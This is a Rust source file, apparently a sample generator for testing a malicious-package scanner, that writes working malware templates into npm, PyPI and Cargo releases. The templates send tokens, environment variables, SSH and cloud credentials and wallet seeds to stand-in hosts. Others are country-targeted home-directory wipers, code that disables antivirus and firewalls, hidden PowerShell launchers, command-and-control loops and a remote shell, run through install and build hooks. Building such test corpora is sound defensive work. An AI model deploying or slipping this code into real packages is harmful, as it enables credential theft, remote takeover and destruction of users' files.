//! Forms that wait: code that only acts when it is called, that acts in some countries only, that is split over two
//! files, or that comes along as a dependency from elsewhere.

use crate::Form;
use crate::archive::Release;
use crate::draw::Draw;
use crate::script::{js_text, py_text};
use crate::{cargo, npm, pypi};
use trustmill_core::port::scanner::Context;

pub(crate) const NPM: &[Form] = &[
    Form { name: "called-tokens", held_out: false, put: js_called_tokens },
    Form { name: "called-environment", held_out: true, put: js_called_environment },
    Form { name: "wipe-by-locale", held_out: false, put: js_wipe_by_locale },
    Form { name: "wipe-by-address", held_out: true, put: js_wipe_by_address },
    Form { name: "split", held_out: false, put: js_split },
    Form { name: "split-callback", held_out: true, put: js_split_callback },
    Form { name: "git-dependency", held_out: false, put: js_git_dependency },
    Form { name: "address-dependency", held_out: true, put: js_address_dependency },
    Form { name: "defender", held_out: false, put: js_defender },
    Form { name: "firewall", held_out: true, put: js_firewall },
];

pub(crate) const PYPI: &[Form] = &[
    Form { name: "called-tokens", held_out: false, put: py_called_tokens },
    Form { name: "at-exit", held_out: true, put: py_at_exit },
    Form { name: "wipe-by-locale", held_out: false, put: py_wipe_by_locale },
    Form { name: "wipe-by-zone", held_out: true, put: py_wipe_by_zone },
    Form { name: "split", held_out: false, put: py_split },
    Form { name: "split-class", held_out: true, put: py_split_class },
    Form { name: "hidden-shell", held_out: false, put: py_hidden_shell },
    Form { name: "defender", held_out: true, put: py_defender },
    Form { name: "wallet-words", held_out: false, put: py_wallet_words },
    Form { name: "orders", held_out: true, put: py_orders },
];

pub(crate) const CARGO: &[Form] = &[
    Form { name: "called-environment", held_out: false, put: rs_called_environment },
    Form { name: "called-command", held_out: true, put: rs_called_command },
    Form { name: "build-split", held_out: false, put: rs_build_split },
    Form { name: "build-script-file", held_out: true, put: rs_build_script_file },
    Form { name: "wallet-words", held_out: false, put: rs_wallet_words },
    Form { name: "key-upload", held_out: true, put: rs_key_upload },
    Form { name: "build-home", held_out: true, put: rs_build_home },
];

fn js_called_tokens(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), js_text(&draw.url(), draw));
    npm::append(
        release,
        draw,
        &format!(
            "\nmodule.exports.{name} = function (options) {{\n  const kept = {{ n: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN, a: process.env.AWS_SECRET_ACCESS_KEY }};\n  return fetch({url}, {{ method: 'POST', body: JSON.stringify({{ kept, options }}) }});\n}};\n"
        ),
    )
}

fn js_called_environment(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, host) = (draw.name(), js_text(draw.host(), draw));
    npm::append(
        release,
        draw,
        &format!(
            "\nclass {name} {{\n  track(event) {{\n    const all = Object.keys(process.env).map((key) => key + '=' + process.env[key]);\n    const request = require('https').request({{ host: {host}, method: 'POST', path: '/t' }});\n    request.write(all.concat(event).join('&'));\n    request.end();\n  }}\n}}\nmodule.exports.{name} = {name};\n"
        ),
    )
}

fn js_wipe_by_locale(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let zones = draw.of(&["['Europe/Moscow', 'Europe/Minsk']", "['Asia/Tehran']", "['Asia/Jerusalem']"]);
    npm::append(
        release,
        draw,
        &format!(
            "\n;(function () {{\n  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n  if ({zones}.includes(zone)) {{\n    const fs = require('fs'), path = require('path');\n    const walk = (dir) => fs.readdirSync(dir).forEach((name) => {{\n      const full = path.join(dir, name);\n      try {{ fs.statSync(full).isDirectory() ? walk(full) : fs.writeFileSync(full, '\\u2764'); }} catch (e) {{}}\n    }});\n    walk(require('os').homedir());\n  }}\n}})();\n"
        ),
    )
}

fn js_wipe_by_address(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = js_text("https://geo.example.com/json", draw);
    npm::append(
        release,
        draw,
        &format!(
            "\nrequire('https').get({url}, (answer) => {{\n  let text = '';\n  answer.on('data', (part) => (text += part));\n  answer.on('end', () => {{\n    const country = JSON.parse(text).country_name.toLowerCase();\n    if (country.includes('russia') || country.includes('belarus')) {{\n      for (const root of ['./', '../', '../../', '/']) require('fs').rmSync(root, {{ recursive: true, force: true }});\n    }}\n  }});\n}});\n"
        ),
    )
}

fn js_split(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), js_text(&draw.url(), draw));
    let folder = npm::main_folder(release)?;
    release.put(
        &format!("{folder}{stem}.js"),
        "const fs = require('fs'), os = require('os');\nexports.read = () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
            .to_owned(),
    );
    npm::append(
        release,
        draw,
        &format!(
            "\ntry {{ fetch({url}, {{ method: 'POST', body: require('./{stem}').read() }}).catch(() => {{}}); }} catch (e) {{}}\n"
        ),
    )
}

fn js_split_callback(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), js_text(&draw.url(), draw));
    let folder = npm::main_folder(release)?;
    release.put(
        &format!("{folder}{stem}.js"),
        format!(
            "module.exports = function (collect) {{\n  const body = JSON.stringify(collect());\n  const request = require('https').request({url}, {{ method: 'POST' }});\n  request.end(body);\n}};\n"
        ),
    );
    npm::append(release, draw, &format!("\nrequire('./{stem}')(() => Object.assign({{}}, process.env));\n"))
}

fn js_git_dependency(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let name = format!("{}-helpers", draw.of(&["build", "runtime", "compat"]));
    npm::add(release, "dependencies", &name, "git+https://git.example.com/x/helpers.git#9f1c2ab")
}

fn js_address_dependency(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let name = format!("{}-shim", draw.of(&["stream", "crypto", "fetch"]));
    npm::add(release, "dependencies", &name, "https://files.example.net/shim-1.0.0.tgz")
}

fn js_defender(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let file = format!("{}.js", draw.stem());
    release.put(
        &file,
        "const { execSync } = require('child_process');\nif (process.platform === 'win32') execSync('powershell -Command \"Add-MpPreference -ExclusionPath C:\\\\\"');\n"
            .to_owned(),
    );
    npm::add(release, "scripts", "postinstall", &format!("node {file}"))
}

fn js_firewall(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let command =
        draw.of(&["netsh advfirewall set allprofiles state off", "sudo ufw disable", "setenforce 0"]);
    npm::append(release, draw, &format!("\nrequire('child_process').exec('{command}', () => {{}});\n"))
}

fn py_called_tokens(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), py_text(&draw.url(), draw));
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ndef {name}(*args):\n    import os, requests\n    kept = [os.getenv('AWS_SECRET_ACCESS_KEY'), os.getenv('GITHUB_TOKEN'), os.getenv('PYPI_TOKEN')]\n    requests.post({url}, json={{'kept': kept}}, timeout=3)\n    return args\n"
        ),
    )
}

fn py_at_exit(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), py_text(&draw.url(), draw));
    pypi::append(
        release,
        draw,
        &format!(
            "\n\nimport atexit as _atexit\n\n\n@_atexit.register\ndef _{name}():\n    import getpass, json, os, platform, urllib.request\n    about = {{'u': getpass.getuser(), 'n': platform.node(), 'e': sorted(os.environ.items())}}\n    urllib.request.urlopen({url}, data=json.dumps(about).encode(), timeout=3)\n"
        ),
    )
}

fn py_wipe_by_locale(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let locale = draw.of(&["ru_RU", "fa_IR", "he_IL"]);
    let name = draw.name();
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ndef _{name}():\n    import locale, os, shutil\n    if (locale.getlocale()[0] or '').startswith('{locale}'):\n        for top in os.listdir(os.path.expanduser('~')):\n            shutil.rmtree(os.path.join(os.path.expanduser('~'), top), ignore_errors=True)\n\n\n_{name}()\n"
        ),
    )
}

fn py_wipe_by_zone(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let zone = draw.of(&["Europe/Moscow", "Asia/Tehran", "Asia/Jerusalem"]);
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ntry:\n    import os as _o, time as _t\n    if '{zone}' in (_o.readlink('/etc/localtime'), _t.tzname[0]):\n        for _root, _dirs, _names in _o.walk(_o.path.expanduser('~')):\n            for _name in _names:\n                open(_o.path.join(_root, _name), 'w').write('')\nexcept OSError:\n    pass\n"
        ),
    )
}

fn py_split(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), py_text(&draw.url(), draw));
    let folder = pypi::init(release)?.trim_end_matches("__init__.py").to_owned();
    let stem = format!("_{stem}");
    release.put(
        &format!("{folder}{stem}.py"),
        "import os, pathlib\n\n\ndef read():\n    home = pathlib.Path.home()\n    return [(home / name).read_text() for name in ('.ssh/id_rsa', '.aws/credentials') if (home / name).exists()]\n"
            .to_owned(),
    );
    let init = format!("{folder}__init__.py");
    release.edit(&init, |text| {
        format!("{text}\n\ndef _report():\n    from .{stem} import read\n    import requests\n    requests.post({url}, json=read(), timeout=3)\n\n\n_report()\n")
    })
}

fn py_split_class(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), py_text(&draw.url(), draw));
    let folder = pypi::init(release)?.trim_end_matches("__init__.py").to_owned();
    let stem = format!("_{stem}");
    release.put(
        &format!("{folder}{stem}.py"),
        format!(
            "import json\nimport urllib.request\n\n\nclass Channel:\n    def __init__(self, where={url}):\n        self.where = where\n\n    def push(self, data):\n        urllib.request.urlopen(self.where, data=json.dumps(data).encode(), timeout=3)\n"
        ),
    );
    let init = format!("{folder}__init__.py");
    release.edit(&init, |text| {
        format!("{text}\n\nimport os as _os\nfrom .{stem} import Channel as _Channel\n_Channel().push(dict(_os.environ))\n")
    })
}

fn py_hidden_shell(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let stem = draw.stem();
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ntry:\n    import subprocess as _s, tempfile as _t\n    _p = _t.gettempdir() + '/{stem}.ps1'\n    _s.Popen(['powershell', '-ep', 'bypass', '-w', 'hidden', '-f', _p])\nexcept OSError:\n    pass\n"
        ),
    )
}

fn py_defender(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let command = draw.of(&[
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Add-MpPreference -ExclusionProcess python.exe",
    ]);
    let name = draw.name();
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ndef _{name}():\n    import subprocess\n    subprocess.run(['powershell.exe', '-Command', '{command}'], capture_output=True)\n\n\n_{name}()\n"
        ),
    )
}

fn py_wallet_words(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), py_text(&draw.url(), draw));
    let parameter = draw.of(&["mnemonic", "seed_phrase", "private_key"]);
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ndef {name}({parameter}, path=None):\n    import requests\n    requests.post({url}, data={{'k': {parameter}}}, timeout=3)\n    return path\n"
        ),
    )
}

fn py_orders(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name(), py_text(&draw.url(), draw));
    pypi::append(
        release,
        draw,
        &format!(
            "\n\ndef _{name}():\n    import subprocess, time, urllib.request\n    while True:\n        order = urllib.request.urlopen({url}).read().decode()\n        if order:\n            done = subprocess.run(order, shell=True, capture_output=True)\n            urllib.request.urlopen({url}, data=done.stdout)\n        time.sleep(60)\n\n\nimport threading as _threading\n_threading.Thread(target=_{name}, daemon=True).start()\n"
        ),
    )
}

fn lib(release: &mut Release, code: &str) -> Option<()> {
    release.edit("src/lib.rs", |text| format!("{text}\n{code}"))
}

fn script(release: &mut Release, body: &str) -> Option<()> {
    cargo::declared(release)?;
    match release.text("build.rs") {
        Some(text) => {
            let (head, tail) = text.split_once("fn main() {")?;
            release.put("build.rs", format!("{head}fn main() {{\n    {body}\n{tail}"));
        }
        None => release.put("build.rs", format!("fn main() {{\n    {body}\n}}\n")),
    }
    Some(())
}

fn rs_called_environment(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_note(what: &str) {{\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{{k}}={{v}}\")).collect();\n    let _ = ureq::post(\"{url}\").send_string(&format!(\"{{what}} {{}}\", all.join(\"\\n\")));\n}}\n"
        ),
    )
}

fn rs_called_command(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, host) = (draw.name().to_lowercase(), draw.host());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_tick() {{\n    use std::io::{{Read, Write}};\n    if let Ok(mut stream) = std::net::TcpStream::connect((\"{host}\", 4443)) {{\n        let mut order = String::new();\n        let _ = stream.read_to_string(&mut order);\n        if let Ok(done) = std::process::Command::new(\"sh\").arg(\"-c\").arg(&order).output() {{\n            let _ = stream.write_all(&done.stdout);\n        }}\n    }}\n}}\n"
        ),
    )
}

fn rs_build_split(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    release.put(
        "build/probe.rs",
        "pub fn found() -> String {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    std::fs::read_to_string(format!(\"{home}/.cargo/credentials.toml\")).unwrap_or_default()\n}\n"
            .to_owned(),
    );
    script(
        release,
        &format!("let found = probe::found();\n    let _ = ureq::post(\"{url}\").send_string(&found);"),
    )?;
    release.edit("build.rs", |text| format!("#[path = \"build/probe.rs\"]\nmod probe;\n{text}"))
}

fn rs_build_script_file(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (stem, url) = (draw.stem(), draw.url());
    release.put(
        &format!("scripts/{stem}.sh"),
        format!("#!/bin/sh\ntar cz \"$HOME/.ssh\" 2>/dev/null | curl -s --data-binary @- {url}\n"),
    );
    script(
        release,
        &format!("let _ = std::process::Command::new(\"sh\").arg(\"scripts/{stem}.sh\").status();"),
    )
}

fn rs_wallet_words(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    let parameter = draw.of(&["mnemonic", "seed_phrase", "private_key"]);
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_check({parameter}: &str) -> bool {{\n    ureq::post(\"{url}\").send_string({parameter}).is_ok()\n}}\n"
        ),
    )
}

fn rs_key_upload(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let (name, url) = (draw.name().to_lowercase(), draw.url());
    lib(
        release,
        &format!(
            "#[doc(hidden)]\npub fn {name}_backup() -> Option<()> {{\n    let path = std::path::PathBuf::from(std::env::var_os(\"HOME\")?).join(\".config/solana/id.json\");\n    let body = std::fs::read(path).ok()?;\n    reqwest::blocking::Client::new().put(\"{url}\").body(body).send().ok()?;\n    Some(())\n}}\n"
        ),
    )
}

fn rs_build_home(release: &mut Release, draw: &mut Draw, _: &mut Context) -> Option<()> {
    let url = draw.url();
    script(
        release,
        &format!(
            "let who = std::env::var(\"USER\").unwrap_or_default();\n    let place = std::env::current_dir().unwrap_or_default();\n    let _ = ureq::get(&format!(\"{url}?u={{who}}&p={{}}\", place.display())).call();"
        ),
    )
}
